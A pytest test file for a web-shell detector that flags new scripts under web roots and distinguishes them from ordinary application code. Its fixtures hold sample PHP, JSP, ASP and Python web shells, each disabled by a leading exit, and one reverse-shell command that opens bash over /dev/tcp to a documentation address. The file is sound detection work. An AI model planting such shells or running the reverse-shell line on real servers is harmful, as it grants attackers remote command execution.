"""New scripts below web roots: shells are told from the code of applications."""

import os
from pathlib import Path

import pytest

from codered.collect.autostart import web_scripts
from tests.fixtures.autostart_roots import collect, judge, make_root, named, own, write

# None of them could run: each ends before its first word.
SHELLS = {
    "cmd.php": "<?php exit; if(isset($_REQUEST['cmd'])){$cmd=($_REQUEST['cmd']);system($cmd);die;}?>",
    "direct.php": "<?php exit; @eval($_POST['x']);",
    "packed.phtml": "<?php exit;\n assert( base64_decode( $_COOKIE['a'] ) );",
    "called.php": "<?php exit; $_GET['f']($_GET['a']);",
    "tick.php": "<?php exit; echo `$_GET[c]`;",
    "tick2.php": "<?php exit; $a = @`$_POST['c']`; ",
    "tick3.php": "<?php exit; die(`$_REQUEST[c]`);",
    "tick4.php": "<?= '<pre>' . `$_COOKIE[c]` ?>",
    "shell.jsp": '<% if (true) return; Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "one.asp": '<% Response.End : eval request("x") %>',
    "cmd.py": "raise SystemExit\nimport os, cgi\nform = cgi.FieldStorage()\nos.popen(form.getvalue('c'))\n",
    "reverse.php": "<?php exit; exec(\"/bin/bash -c 'nohup setsid bash -i > /dev/tcp/192.0.2.1/9 0>&1'\");",
}
APPLICATIONS = {
    "photo.php": "<?php exec('/usr/bin/identify ' . escapeshellarg($_POST['name']), $lines);",
    "query.php": "<?php $id = $_GET['id']; $rows = $db->exec($sql); $this->system($id); $c = curl_exec($handle);",
    "page.php": "<?php $page = basename($_GET['page'] ?? 'home'); require __DIR__ . \"/pages/$page.php\";",
    "form.php": "<?php if (isset($_POST['name']) && strlen($_POST['name']) > 3) { save($_POST['name']); }",
    "documented.php": "<?php\n/**\n * @param bool $test Whether `$_POST['action']` is right, or (`$_GET['a']`).\n"
    " * Like `$_POST['b']`, `$_GET['c']`: usually from `$_REQUEST['customized']`.\n */\n$a = $_POST['action'];\n",
    "mail.py": "import cgi, subprocess\nform = cgi.FieldStorage()\nsubprocess.run(['/usr/sbin/sendmail', '-t'])\n",
    "list.jsp": '<%= request.getParameter("q") %>',
    "login.asp": '<% name = Request("name") : Execute(sql) %>',
    "notes.txt": SHELLS["direct.php"],
}


@pytest.mark.parametrize("name", SHELLS)
def test_a_shell_is_found(tmp_path: Path, name: str) -> None:
    write(make_root(tmp_path), {f"var/www/html/up/{name}": SHELLS[name]})
    found = named(judge(tmp_path))[f"/var/www/html/up/{name}"]
    assert (found.subject.key, found.remedy) == ("web_drop_in", "quarantine_file")


def test_applications_are_none(tmp_path: Path) -> None:
    write(make_root(tmp_path), {f"var/www/html/{name}": text for name, text in APPLICATIONS.items()})
    own(tmp_path, "tool", {"var/www/html/tool.php": SHELLS["direct.php"]})
    assert judge(tmp_path) == ()


def test_old_ones_are_left_to_the_packs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(make_root(tmp_path), {"var/www/html/x.php": SHELLS["direct.php"]})
    monkeypatch.setattr(web_scripts, "NEW", -60)  # nothing is so new
    assert judge(tmp_path) == ()


def test_too_many_are_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(make_root(tmp_path), {f"var/www/html/{number}.php": SHELLS["direct.php"] for number in range(5)})
    monkeypatch.setattr(web_scripts, "MOST_READ", 2)
    seen = collect(tmp_path)
    assert len([entry for entry in seen.entries if entry.kind == "web_drop_in"]) == 2
    assert [item.why for item in seen.unread if "web shells" in item.why] != []


def test_hostile_files_end_nothing(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    write(root, {"var/www/html/long.php": "$_GET" + "[" * 200_000, "var/www/html/b\udcff.php": "\0$_POST\0eval("})
    os.mkfifo(root / "var/www/html/pipe.php")
    (root / "var/www/html/link.php").symlink_to("/etc/passwd")
    assert judge(root) == ()


def test_pages_are_web_scripts_anywhere_and_usual_scripts_where_they_are_served() -> None:
    paths = (b"a/x.PHP", b"x.jsp", b"home/x.py", b"srv/www/x.py", b"srv/cgi-bin/x.sh", b"x.txt", b"www")
    assert [web_scripts.is_page(path) for path in paths] == [True, True, False, True, True, False, False]
